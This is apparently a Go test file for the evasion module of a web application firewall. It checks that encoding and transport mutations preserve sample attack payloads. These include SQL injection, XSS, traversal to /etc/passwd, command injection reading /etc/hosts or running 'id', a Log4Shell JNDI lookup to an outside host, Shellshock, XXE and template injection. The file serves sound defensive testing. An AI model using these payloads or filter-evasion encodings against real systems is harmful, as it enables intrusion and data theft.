package evasion_test

import (
	"encoding/json"
	"html"
	"math/rand/v2"
	"net/url"
	"slices"
	"strings"
	"testing"
	"unicode/utf16"
	"unicode/utf8"

	"github.com/limen-waf/limen/classifier"
	"github.com/limen-waf/limen/classifier/evasion"
)

// samples are a payload or two of each class, of our own writing.
var samples = map[string][]string{
	"sqli":       {"7' OR 5=5 -- ", "3') union select name, 12 from accounts where id=4#", "x' and 'ab'='ab", "9;select pg_sleep(7)--", "4' and substring(user(),1,1)='r'#"},
	"xss":        {"<img src=a onerror=alert(7)>", `<a href="javascript:alert(1)">x</a>`, "<script>confirm(document.domain)</script>", `"><p onclick='prompt(3)'>y</p>`},
	"traversal":  {"../../../etc/hosts", `..\..\windows\win.ini`, "/var/www/../../etc/passwd"},
	"cmdi":       {";cat /etc/hosts", "| ping -c 3 10.1.1.1", "& type C:\\boot.ini", "<?php system('id');?>"},
	"log4shell":  {"${jndi:ldap://h.example.com/a}"},
	"shellshock": {"() { :;}; /bin/cat /etc/hosts"},
	"xxe":        {`<?xml version="1.0"?><!DOCTYPE doc [<!ENTITY ent SYSTEM "file:///etc/hosts">]><doc>&ent;</doc>`},
	"other":      {"{{x.config.items()}}", `{{'__a'|b}}`, "${T(java.lang.Runtime).getRuntime()}"},
	"none":       {"a quiet place & more", "Anna's house"},
}

// each calls f with candidates of every class in every place that holds them.
func each(t *testing.T, f func(t *testing.T, c *evasion.Candidate, r *rand.Rand)) {
	t.Helper()
	r := rand.New(rand.NewPCG(1, 2))
	for class, payloads := range samples {
		for _, payload := range payloads {
			for p := evasion.Query; p <= evasion.Body; p++ {
				if !evasion.Holds(p, payload) || p == evasion.Body && class != "xxe" {
					continue
				}
				f(t, evasion.NewCandidate(class, payload, p, r), r)
			}
		}
	}
}

// Ensure that mutations have unique names, that every class has mutations of
// its own, and that each mutation fits some sample.
func TestSuite(t *testing.T) {
	suite := evasion.Mutations()
	seen := map[string]bool{}
	for _, m := range suite {
		if m.Name == "" || seen[m.Name] {
			t.Errorf("name %q is empty or repeated", m.Name)
		}
		seen[m.Name] = true
	}
	for class := range samples {
		own := 0
		for _, m := range suite.For(class) {
			if slices.Contains(m.Classes, class) {
				own++
			}
		}
		if own < 3 {
			t.Errorf("%s has %d mutations of its own", class, own)
		}
	}
	applied := map[string]bool{}
	each(t, func(t *testing.T, c *evasion.Candidate, r *rand.Rand) {
		for _, m := range suite.For(c.Class) {
			for range 6 {
				if (evasion.Step{Mutation: &m, Seed: r.Uint64()}).Apply(c) != nil {
					applied[m.Name] = true
				}
			}
		}
	})
	for _, m := range suite {
		if !applied[m.Name] {
			t.Errorf("%s was never applied", m.Name)
		}
	}
	if _, ok := suite.Named("sql-space"); !ok {
		t.Error("sql-space is not found by its name")
	}
	for _, m := range suite.Ordinary() {
		if strings.HasPrefix(m.Name, "sql-") || strings.Contains(m.Name, "utf7") || strings.Contains(m.Name, "overlong") {
			t.Errorf("%s is not what ordinary clients do", m.Name)
		}
	}
}

// Ensure that what a server decodes of a request, in the order that the
// candidate says, is the payload: whatever transport mutations were applied.
func TestDecodesToPayload(t *testing.T) {
	var transport evasion.Suite
	for _, m := range evasion.Mutations() {
		for _, prefix := range []string{"own-", "layer-", "charset-", "move", "junk-", "twin", "lone", "rename", "content-type", "part-header", "method", "carrier-path"} {
			if strings.HasPrefix(m.Name, prefix) {
				transport = append(transport, m)
			}
		}
	}
	checked := map[string]int{}
	each(t, func(t *testing.T, c *evasion.Candidate, r *rand.Rand) {
		for range 60 {
			d := c
			for range 1 + r.IntN(5) {
				m := transport[r.IntN(len(transport))]
				if m.Classes != nil && !slices.Contains(m.Classes, c.Class) {
					continue
				}
				if next := (evasion.Step{Mutation: &m, Seed: r.Uint64()}).Apply(d); next != nil {
					d = next
					checked[m.Name]++
				}
			}
			if d.Payload != c.Payload {
				t.Fatalf("a transport mutation changed the payload %q to %q", c.Payload, d.Payload)
			}
			if d.Depth() > 3 {
				t.Fatalf("depth %d", d.Depth())
			}
			request := d.Request()
			values := read(t, d, request)
			if !slices.Contains(values, c.Payload) {
				t.Fatalf("%s in %v, layers %v, own %v, charset %v: decoded to %q, want %q\ntarget %s\nbody %s", c.Class, d.Place, d.Layers, d.Own, d.Charset, values, c.Payload, request.Target, request.Body)
			}
		}
	})
	for _, m := range transport {
		if checked[m.Name] == 0 {
			t.Errorf("%s was not checked", m.Name)
		}
	}
}

// read returns the values of the payload's parameter as a server would decode
// them: by the place, then by the layers from the outermost in.
func read(t *testing.T, c *evasion.Candidate, r *classifier.Request) []string {
	t.Helper()
	body := string(r.Body)
	switch c.Charset {
	case evasion.UTF16LE, evasion.UTF16BE:
		units := make([]uint16, len(body)/2)
		for i := range units {
			low, high := uint16(body[2*i]), uint16(body[2*i+1])
			if c.Charset == evasion.UTF16BE {
				low, high = high, low
			}
			units[i] = low | high<<8
		}
		body = strings.TrimPrefix(string(utf16.Decode(units)), "\ufeff")
	case evasion.UTF7Body:
		body = fromUTF7(body)
	}
	var values []string
	pairs := func(text, separator string) {
		for _, pair := range strings.Split(text, separator) {
			if name, value, _ := strings.Cut(pair, "="); name == c.Carrier.Name {
				values = append(values, fromURL(c, value))
			}
		}
	}
	_, query, _ := strings.Cut(r.Target, "?")
	switch c.Place {
	case evasion.Query:
		pairs(query, "&")
	case evasion.Form:
		pairs(body, "&")
	case evasion.Cookie:
		for _, h := range r.Headers {
			if h.Name == "Cookie" {
				pairs(h.Value, "; ")
			}
		}
	case evasion.Header:
		for _, h := range r.Headers {
			if h.Name == c.Carrier.Name {
				values = append(values, h.Value)
			}
		}
	case evasion.Path:
		path, _, _ := strings.Cut(r.Target, "?")
		values = append(values, fromURL(c, strings.TrimPrefix(path, strings.TrimSuffix(c.Carrier.Path, "/")+"/")))
	case evasion.JSON:
		// Names may repeat, so tokens it is.
		d := json.NewDecoder(strings.NewReader(body))
		var before any
		for {
			token, err := d.Token()
			if err != nil {
				break
			}
			if before == c.Carrier.Name {
				values = append(values, token.(string))
			}
			before = token
		}
		if !json.Valid([]byte(body)) {
			t.Fatalf("not JSON: %s", body)
		}
	case evasion.XML:
		for _, part := range strings.Split(body, "<"+c.Carrier.Name+">")[1:] {
			value, _, _ := strings.Cut(part, "</"+c.Carrier.Name+">")
			values = append(values, html.UnescapeString(value))
		}
	case evasion.Multipart:
		for _, part := range strings.Split(body, "--"+c.Carrier.Boundary) {
			head, value, _ := strings.Cut(part, "\r\n\r\n")
			if strings.Contains(head, `name="`+c.Carrier.Name+`"`) {
				values = append(values, strings.TrimSuffix(value, "\r\n"))
			}
		}
	case evasion.Body:
		values = append(values, body)
	}
	for i := range values {
		for j := len(c.Layers) - 1; j >= 0; j-- {
			values[i] = fromLayer(c.Layers[j].Kind, values[i])
		}
	}
	return values
}

// fromURL undoes the place's own coding of a URL or form.
func fromURL(c *evasion.Candidate, value string) string {
	if c.Own.Plus {
		value = strings.ReplaceAll(value, "+", " ")
	}
	return fromLayer(c.Own.Kind, value)
}

// fromLayer is a decoder of each kind, written apart from the encoders.
func fromLayer(k evasion.Kind, text string) string {
	switch k {
	case evasion.Percent, evasion.PercentU, evasion.Overlong, evasion.Escape:
		var b strings.Builder
		for i := 0; i < len(text); i++ {
			switch {
			case strings.HasPrefix(text[i:], "%u") && k == evasion.PercentU:
				b.WriteRune(hex4(text[i+2 : i+6]))
				i += 5
			case text[i] == '%' && i+2 < len(text):
				s, err := url.PathUnescape(text[i : i+3])
				if err != nil {
					b.WriteByte('%')
					continue
				}
				b.WriteString(s)
				i += 2
			default:
				b.WriteByte(text[i])
			}
		}
		if k != evasion.Overlong {
			return b.String()
		}
		raw := b.String()
		b.Reset()
		for i := 0; i < len(raw); i++ {
			switch {
			case raw[i] == 0xc0 || raw[i] == 0xc1:
				b.WriteByte(raw[i]&3<<6 | raw[i+1]&0x3f)
				i++
			case raw[i] == 0xe0 && raw[i+1] < 0xa0:
				b.WriteByte(raw[i+1]&1<<6 | raw[i+2]&0x3f)
				i += 2
			default:
				b.WriteByte(raw[i])
			}
		}
		return b.String()
	case evasion.Entity:
		return html.UnescapeString(text)
	case evasion.UTF7:
		return fromUTF7(text)
	case evasion.FullWidth:
		return strings.Map(func(r rune) rune {
			if r >= 0xff01 && r <= 0xff5e {
				return r - 0xff01 + '!'
			}
			return r
		}, text)
	}
	return text
}

func hex4(s string) (v rune) {
	for i := range s {
		v = v<<4 | rune(strings.IndexByte("0123456789abcdef", s[i]|0x20))
		if s[i] <= '9' {
			v = v&^0xf | rune(s[i]-'0')
		}
	}
	return v
}

// fromUTF7 is RFC 2152 with any bits left over dropped.
func fromUTF7(text string) string {
	const digits = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"
	var b strings.Builder
	for i := 0; i < len(text); {
		if text[i] != '+' {
			b.WriteByte(text[i])
			i++
			continue
		}
		i++
		if i < len(text) && text[i] == '-' {
			b.WriteByte('+')
			i++
			continue
		}
		var units []uint16
		bits, have := uint32(0), 0
		for i < len(text) && strings.IndexByte(digits, text[i]) >= 0 {
			bits = bits<<6 | uint32(strings.IndexByte(digits, text[i]))
			if have += 6; have >= 16 {
				units = append(units, uint16(bits>>(have-16)))
				have -= 16
			}
			i++
		}
		if i < len(text) && text[i] == '-' {
			i++
		}
		b.WriteString(string(utf16.Decode(units)))
	}
	return b.String()
}

// Ensure that the same step gives the same request and that no mutation
// changes the candidate it was given.
func TestStepsAreValues(t *testing.T) {
	suite := evasion.Mutations()
	each(t, func(t *testing.T, c *evasion.Candidate, r *rand.Rand) {
		before := wire(c.Request())
		for _, m := range suite.For(c.Class) {
			s := evasion.Step{Mutation: &m, Seed: r.Uint64()}
			a, b := s.Apply(c), s.Apply(c)
			if (a == nil) != (b == nil) || a != nil && wire(a.Request()) != wire(b.Request()) {
				t.Fatalf("%s of %q is not the same twice", m.Name, c.Payload)
			}
			if wire(c.Request()) != before {
				t.Fatalf("%s changed what it was given", m.Name)
			}
			if a != nil && (c.Place == evasion.JSON || c.Place == evasion.Header) && !utf8.ValidString(a.Payload) {
				t.Fatalf("%s put bytes into %v: %q", m.Name, c.Place, a.Payload)
			}
		}
	})
}

func wire(r *classifier.Request) string {
	var b strings.Builder
	b.WriteString(r.Method + " " + r.Target + "\n")
	for _, h := range r.Headers {
		b.WriteString(h.Name + ": " + h.Value + "\n")
	}
	b.Write(r.Body)
	return b.String()
}
